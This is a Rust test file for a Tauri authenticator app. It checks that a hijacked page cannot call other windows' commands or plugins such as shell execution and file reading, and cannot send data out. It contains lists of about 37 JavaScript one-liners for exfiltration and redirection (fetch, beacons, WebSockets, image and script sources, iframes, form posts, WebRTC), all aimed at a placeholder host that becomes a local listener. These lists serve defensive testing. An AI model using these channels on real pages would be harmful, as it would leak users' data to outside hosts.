//! A page that somebody has taken over: what it can call, and what it can send out.

use std::io::ErrorKind;
use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
use std::time::Duration;

use anyhow::{Context as _, Result, bail, ensure};
use lingpai_ipc::COMMANDS;
use lingpai_tests::{Broker, Desk, Validity, Window, bind_plain, bind_registration, open_list, picture, until};
use serde_json::{Value, json};

const ALICE: &str = "otpauth://totp/Example:alice?secret=GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ&issuer=Example";
const LIMIT: Duration = Duration::from_secs(20);

/// Counts what arrives on a port of this machine, by TCP and by UDP.
struct Listener {
    tcp: TcpListener,
    udp: UdpSocket,
    port: u16,
}

impl Listener {
    fn new() -> Result<Self> {
        let tcp = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).context("no free port")?;
        let port = tcp.local_addr()?.port();
        let udp = UdpSocket::bind((Ipv4Addr::LOCALHOST, port)).context("the port is taken")?;
        tcp.set_nonblocking(true)?;
        udp.set_nonblocking(true)?;
        Ok(Self { tcp, udp, port })
    }

    /// How many connections and packets have come since the last call.
    fn count(&self) -> Result<usize> {
        let none = |error: &std::io::Error| error.kind() == ErrorKind::WouldBlock;
        let mut count = 0;
        loop {
            match self.tcp.accept() {
                Ok(_) => count += 1,
                Err(error) if none(&error) => break,
                Err(error) => return Err(error.into()),
            }
        }
        loop {
            match self.udp.recv_from(&mut [0; 2048]) {
                Ok(_) => count += 1,
                Err(error) if none(&error) => return Ok(count),
                Err(error) => return Err(error.into()),
            }
        }
    }
}

/// Calls every command in a list and gives the names of those that Tauri let through. A command of another window is refused
/// with a text; one that was let through and failed gives a fault with a code.
const CALL: &str = "const [names, done] = [NAMES, arguments[0]];
    const through = [];
    const call = (name) => window.__TAURI_INTERNALS__.invoke(name, {}).then(
        () => through.push(name),
        (reason) => { if (typeof reason !== 'string' || !reason.includes('not allowed')) through.push(name); });
    Promise.all(names.map(call)).then(() => done(through), (reason) => done(String(reason)))";

fn let_through(names: &[&str], run: impl FnOnce(&str) -> Result<Value>) -> Result<Vec<String>> {
    let answer = run(&CALL.replace("NAMES", &json!(names).to_string()))?;
    serde_json::from_value(answer.clone()).with_context(|| format!("no list of names: {answer}"))
}

/// What no page of the program has.
const TAURIS: [&str; 6] = [
    "plugin:fs|read_text_file",
    "plugin:window|create",
    "plugin:webview|create_webview_window",
    "plugin:event|emit",
    "plugin:shell|execute",
    "plugin:window|close",
];

#[test]
fn a_page_calls_its_own_windows_commands_and_no_others() -> Result<()> {
    let desk = Desk::new()?;
    desk.set_preferences(&json!({ "welcome": "done", "strip_keys": "Ctrl+Alt+L" }))?;
    let window = open_list(&desk)?;
    bind_plain(&window, &picture(&desk, "alice.png", ALICE)?)?;
    ensure!(window.run("return typeof window.__TAURI__")? == "undefined", "a global Tauri object is there");
    let inline = "const s = document.createElement('script'); s.textContent = \"document.title='run'\";
        document.head.append(s); return document.title";
    ensure!(window.run(inline)? != "run", "an inline script ran");

    let others = |name: &&str| name.starts_with("overlay_") || name.starts_with("strip_");
    let foreign: Vec<&str> = COMMANDS.iter().copied().filter(others).chain(TAURIS).collect();
    ensure!(foreign.len() > 10, "there is nothing to try");
    let through = let_through(&foreign, |script| window.run_to_answer(script))?;
    ensure!(through.is_empty(), "the main window may call {through:?}");
    // This shows that a command that is let through is seen.
    ensure!(
        let_through(&["accounts"], |script| window.run_to_answer(script))? == ["accounts"],
        "nothing is let through"
    );

    window.press_anywhere("ctrl+alt+l")?;
    until("the strip", LIMIT, || Ok((!window.others()?.is_empty()).then_some(())))?;
    let strips = [
        "accounts",
        "codes_show",
        "window_seen",
        "window_private",
        "code_copy",
        "code_next",
        "preferences",
        "pin_digit",
        "pin_backspace",
        "pin_submit",
        "pin_cancel",
    ];
    let foreign: Vec<&str> = COMMANDS
        .iter()
        .copied()
        .filter(|name| !name.starts_with("strip_") && !strips.contains(name))
        .chain(TAURIS)
        .collect();
    ensure!(foreign.contains(&"pin_open") && foreign.contains(&"kit_make"), "the strip's test tries too little");
    let through = until("the strip's page", LIMIT, || {
        Ok(let_through(&foreign, |script| window.run_in_other_to_answer(script)).ok())
    })?;
    ensure!(through.is_empty(), "the strip may call {through:?}");
    window.close()?;
    desk.finish();
    Ok(())
}

/// Calls a command, and gives the code of the fault that comes back.
const FAULT: &str = "const done = arguments[0];
    window.__TAURI_INTERNALS__.invoke('NAME', ARGUMENTS).then(() => done('made'), (reason) => done(reason.code ?? String(reason)))";

#[test]
fn a_page_without_a_proof_opens_no_dialog_of_the_system() -> Result<()> {
    let desk = Desk::new()?;
    let broker = Broker::new(&desk)?;
    let window = open_list(&desk)?;
    bind_registration(&window, &broker.issue("700004", Validity::Day)?.picture, "135790")?;
    let proof = json!({ "proof": { "kind": "keystore" } });
    // A command that asked first would wait for the answer, and this test for the command.
    for (name, arguments) in [("kit_make", json!({})), ("erase_at_ten", json!({ "on": true })), ("restore", proof)] {
        let call = FAULT.replace("NAME", name).replace("ARGUMENTS", &arguments.to_string());
        let code = window.run_to_answer(&call)?;
        ensure!(code == "proof_needed", "`{name}` without a proof gives {code}");
    }
    window.close()?;
    desk.finish();
    Ok(())
}

/// Ways to send something out of a page. `HOST` is the address that listens.
const SENDS: [&str; 25] = [
    "fetch('http://HOST/fetch', { mode: 'no-cors' }).catch(() => {})",
    "fetch('http://HOST/keep', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => {})",
    "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.send()",
    "navigator.sendBeacon('http://HOST/beacon', 'x')",
    "new WebSocket('ws://HOST/socket')",
    "new EventSource('http://HOST/events')",
    "new Image().src = 'http://HOST/image'",
    "document.body.append(Object.assign(document.createElement('img'), { src: 'http://HOST/img', srcset: 'http://HOST/set 2x' }))",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'http://HOST/script.js' }))",
    "import('http://HOST/module.js').catch(() => {})",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://HOST/a.css' }))",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://HOST/prefetch' }))",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://HOST/' }))",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'http://HOST/' }))",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: 'http://HOST/icon' }))",
    "document.body.style.backgroundImage = 'url(http://HOST/background)'",
    "new FontFace('x', 'url(http://HOST/font)').load().catch(() => {})",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://HOST/frame' }))",
    "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=http://HOST/doc>' }))",
    "document.body.append(Object.assign(document.createElement('object'), { data: 'http://HOST/object' }))",
    "document.body.append(Object.assign(document.createElement('embed'), { src: 'http://HOST/embed' }))",
    "const v = document.createElement('video'); v.src = 'http://HOST/video'; document.body.append(v); v.load()",
    "new Worker('http://HOST/worker.js')",
    "const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://HOST/ping'; document.body.append(a); a.click()",
    "const c = new RTCPeerConnection({ iceServers: [{ urls: ['stun:HOST', 'turn:HOST?transport=tcp'], username: 'a', credential: 'b' }] });
       c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer))",
];

/// Ways to take the page, or another window, elsewhere.
const GOES: [&str; 12] = [
    "window.open('http://HOST/window')",
    "window.open('http://HOST/self', '_self')",
    "location.href = 'http://HOST/location'",
    "location.replace('http://HOST/replace')",
    "location.href = 'data:text/html,<img src=http://HOST/data>'",
    "location.href = URL.createObjectURL(new Blob(['<img src=http://HOST/blob>'], { type: 'text/html' }))",
    "location.href = 'javascript:fetch(\"http://HOST/javascript\")'",
    "const a = document.createElement('a'); a.href = 'http://HOST/link'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = 'http://HOST/blank'; a.target = '_blank'; document.body.append(a); a.click()",
    "const a = document.createElement('a'); a.href = 'http://HOST/file'; a.download = 'x'; document.body.append(a); a.click()",
    "const f = document.createElement('form'); f.action = 'http://HOST/form'; f.method = 'post'; document.body.append(f); f.submit()",
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://HOST/refresh'; document.head.append(m)",
];

/// Does each of these in the page, one after the other, and waits until all that they cause would have been sent.
fn attempt(window: &Window<'_>, listener: &Listener, ways: &[&str]) -> Result<()> {
    let host = format!("127.0.0.1:{}", listener.port);
    for way in ways {
        let way = way.replace("HOST", &host);
        window.run(&format!("try {{ {way} }} catch {{}} return null"))?;
    }
    // A request of the page to the program comes after those before it.
    window.painted()?;
    window.run_to_answer("const done = arguments[0]; window.__TAURI_INTERNALS__.invoke('accounts', {}).then(() => setTimeout(() => done(true), 2000))")?;
    Ok(())
}

#[test]
fn nothing_leaves_a_page_that_was_taken_over() -> Result<()> {
    let desk = Desk::new()?;
    let window = open_list(&desk)?;
    let listener = Listener::new()?;
    // This shows that the listener counts.
    drop(TcpStream::connect((Ipv4Addr::LOCALHOST, listener.port))?);
    UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?.send_to(b"x", (Ipv4Addr::LOCALHOST, listener.port))?;
    let mut seen = 0;
    until("the listener's own two", LIMIT, || {
        seen += listener.count()?;
        Ok((seen == 2).then_some(()))
    })?;

    ensure!(window.run("return typeof RTCPeerConnection")? == "undefined", "the page has WebRTC");
    let media = window.run("return typeof navigator.mediaDevices?.getUserMedia")?;
    ensure!(media == "undefined", "the page may ask for a camera");
    attempt(&window, &listener, &SENDS)?;
    let sent = listener.count()?;
    if sent > 0 {
        let mut leaks = Vec::new();
        for way in SENDS {
            attempt(&window, &listener, &[way])?;
            if listener.count()? > 0 {
                leaks.push(way);
            }
        }
        bail!("{sent} requests left the page, by {leaks:#?}");
    }
    let here = window.run("return location.href")?;
    ensure!(here.as_str().is_some_and(|at| at.starts_with("tauri://localhost/index.html?")), "the page is at {here}");
    for way in GOES {
        attempt(&window, &listener, &[way])?;
        let sent = listener.count()?;
        ensure!(sent == 0, "`{way}` sent {sent} requests");
        let at = window.run("return location.href")?;
        ensure!(at == here, "`{way}` took the page to {at}");
    }
    ensure!(window.others()?.is_empty(), "the page has opened a window");
    window.see("empty")?;
    window.close()?;
    desk.finish();
    Ok(())
}
